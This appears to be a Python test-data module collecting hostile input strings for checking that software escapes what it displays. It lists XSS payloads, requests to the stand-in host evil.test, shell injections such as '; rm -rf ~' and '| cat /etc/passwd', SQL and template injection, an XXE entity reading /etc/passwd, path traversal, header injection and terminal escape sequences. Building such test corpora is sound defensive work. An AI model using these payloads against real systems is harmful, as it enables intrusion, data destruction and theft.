"""Texts that mean something elsewhere: to a browser, a template, a shell, a terminal, a person's eye.

Each that could run something sets `window.ran` or asks http://evil.test.
"""

RUN = "window.ran=1"

ELEMENTS = [
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\n>{RUN}</script\t>",
    "<script src=http://evil.test/a.js></script>", f"</script><script>{RUN}</script>",
    f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=x onerror=\"{RUN}\"",
    "<img src=http://evil.test/a.png>", f"<svg onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<body onload={RUN}>",
    f"<iframe srcdoc=\"<script>parent.ran=1</script>\">", "<iframe src=http://evil.test/>",
    f"<iframe src=\"javascript:parent.ran=1\">", f"<details open ontoggle={RUN}><summary>a",
    f"<video><source onerror={RUN}>", f"<audio src=x onerror={RUN}>", f"<object data=javascript:{RUN}>",
    "<object data=http://evil.test/>", "<embed src=http://evil.test/>", f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>",
    f"<math><mtext></mtext><mglyph><style><!--</style><img src=x onerror={RUN}>",
    f"<form><button formaction=javascript:{RUN} autofocus>a", f"<form action=http://evil.test/><input name=a>",
    "<base href=http://evil.test/>", "<link rel=stylesheet href=http://evil.test/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>", "<style>@import 'http://evil.test/a.css'</style>",
    "<style>body{display:none}</style>", "<p style='position:fixed;inset:0'>over all", "<plaintext>", "<xmp>", "<noscript>",
    "<!--", "-->", "<!-- --!>", "<![CDATA[", "]]>", "<?xml version='1.0'?>", "<!doctype html>", "</html>", "</form>",
    "</aside></main></body>", "</title><title>other", "</textarea>", "</select>", "</option></select>",
    "<template>", "</template>", "<dialog open>", "<slot>", "<isindex>", f"<x onclick={RUN}>a</x>",
    f"<a href=javascript:{RUN}>a</a>", f"<a href=\"java\tscript:{RUN}\">a</a>", f"<img srcset=http://evil.test/a>",
    f"<script type=module>{RUN}</script>", f"<script>/*</script><script>*/{RUN}</script>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">", f"<table background=http://evil.test/a>",
    f"<img src='x' onerror='{RUN}'//", f"<<script>{RUN}//<</script>", f"<svg/onload={RUN}//",
    f"<a xlink:href=javascript:{RUN}>", f"<use href=data:image/svg+xml,{RUN}>", f"<portal src=http://evil.test/>",
]

ATTRIBUTES = [
    f"\" onfocus=\"{RUN}\" autofocus=\"", f"' onfocus='{RUN}' autofocus='", f"\"><script>{RUN}</script>",
    f"'><script>{RUN}</script>", f"\"><img src=x onerror={RUN}>", f"` onfocus={RUN} autofocus `",
    f"x onmouseover={RUN} y", "\" type=\"image\" src=\"http://evil.test/", "\" formaction=\"http://evil.test/",
    "\" style=\"background:url(http://evil.test/)", "\" disabled=\"", "\" name=\"csrf", "\" form=\"other",
    "\" id=\"events", "\" data-panel=\"http://evil.test/", "\\\" onfocus=\\\"" + RUN, "&quot; onfocus=" + RUN,
    "&#34; onfocus=" + RUN, "&lt;script&gt;" + RUN + "&lt;/script&gt;", "&#x3c;script&#x3e;" + RUN, "&amp;lt;b&amp;gt;",
    "&NewLine;&Tab;&colon;", "&", "&&&&", "&;", "&#0;", "&#x110000;", "&notanentity;", "%22%3E%3Cscript%3E" + RUN,
    "%253Cscript%253E" + RUN, "+ADw-script+AD4-" + RUN + "+ADw-/script+AD4-", "\\u003cscript\\u003e" + RUN, "\\x3cscript\\x3e",
    "¼script¾" + RUN + "¼/script¾", "＜script＞" + RUN + "＜/script＞", "‹script›", "ʺ onfocus=" + RUN, "ˈ onfocus=" + RUN,
]

ADDRESSES = [
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\nscript:{RUN}", f"javascript://%0a{RUN}",
    f"\x01javascript:{RUN}", f"data:text/html,<script>parent.ran=1</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)", "file:///etc/passwd", "http://evil.test/", "//evil.test/", "\\\\evil.test\\share", "/\\evil.test",
    "https:evil.test", "http://127.0.0.1@evil.test/", "?token=0", "#", "#settings", "../../../../etc/passwd", "..%2f..%2f",
    "/api/v1/settings", "/undo", "view-source:http://evil.test", "blob:http://evil.test/a", "mailto:a@evil.test?bcc=b",
]

PROGRAMS = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "{{constructor.constructor('" + RUN + "')()}}", "${" + RUN + "}",
    "`" + RUN + "`", "';" + RUN + ";//", "\";" + RUN + ";//", "\\';" + RUN + "//", "*/" + RUN + "/*", "\\(1+1)", "\\u{41}",
    "$(id)", "`id`", "; rm -rf ~", "| cat /etc/passwd", "&& id", "${HOME}", "$HOME", "~", "%n%n%n%n", "%s%s%s%s", "%@%@%@", "%1$n",
    "@read_file /etc/passwd", "' OR '1'='1", "'; DROP TABLE settings;--", "=1+1", "=HYPERLINK(\"http://evil.test\")", "+1", "-1", "@a",
    "*)(uid=*))(|(uid=*", "$ne", "{\"$gt\": \"\"}", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "\nX-Header: a", "\r\n\r\n<script>" + RUN,
    "\r\nSet-Cookie: a=b", "\ndata: evil\n\n", "event: change", ": comment\n\n", "__proto__", "constructor", "prototype", "toString",
    "null", "undefined", "true", "NaN", "Infinity", "-0", "1e999", "0x41", "[object Object]", "''", "\"\"", "\\", "\\\\", "\\n", "/", "//", "'", "\"", "`",
    "*{color:red}", "}body{display:none", "url(http://evil.test/)", "expression(" + RUN + ")", "@import url(http://evil.test/)", "\\3c script\\3e ",
    "(?:a+)+$", "((((((((((a", "[", "a{1,99999}", "^(a|a)*$", "*", "?", ".*",
]

LETTERS = [
    "", " ", "  \t  ", "\u00a0", "\u200b", "\ufeff", "a\u0000b", "\u0000", "\u0007", "\u001b[31mred\u001b[0m", "\u001b]0;title\u0007",
    "\u001b]8;;http://evil.test\u0007link\u001b]8;;\u0007", "\u001b[2J\u001b[H", "\u001bc", "\u009b31m", "\u0008\u0008\u0008", "a\rb", "a\u000bb\u000cc", "\u007f",
    "\u0085", "\u2028alert", "\u2029alert", "\u202egnp.exe", "\u202dabc\u202e", "\u2066abc\u2069", "\u2067\u202e\u2066", "\u061c\u200e\u200f", "\u2060\u2061\u2062",
    "שלום <b>", "مرحبا\"><b>", "é", "e\u0301", "a" + "\u0301" * 500, "Z" + "\u0334\u0335\u0336" * 100, "ﷺ" * 50, "İstanbul", "ﬀ", "ẞ", "K", "ſcript", "аdmin",
    "👩‍👩‍👧‍👦", "🏳️‍🌈" * 50, "\U000e0041\U000e0042", "\U000f0000", "\U0010fffd", "\ufffe", "\uffff", "\ufffd", "\ue000", "𝓈𝒸𝓇𝒾𝓅𝓉", "⁦⁩", "￼",
    "a" * 10_000, "<" * 2_000, "&" * 2_000, "\"" * 2_000, "<b>" * 1_000, "a " * 5_000, "\n" * 200, "W" * 300, "٣", "１２", "㏒", "꧅", "𒈙" * 100, "\u3164",
]

TEXTS = list(dict.fromkeys(ELEMENTS + ATTRIBUTES + ADDRESSES + PROGRAMS + LETTERS))

assert len(TEXTS) >= 200, len(TEXTS)
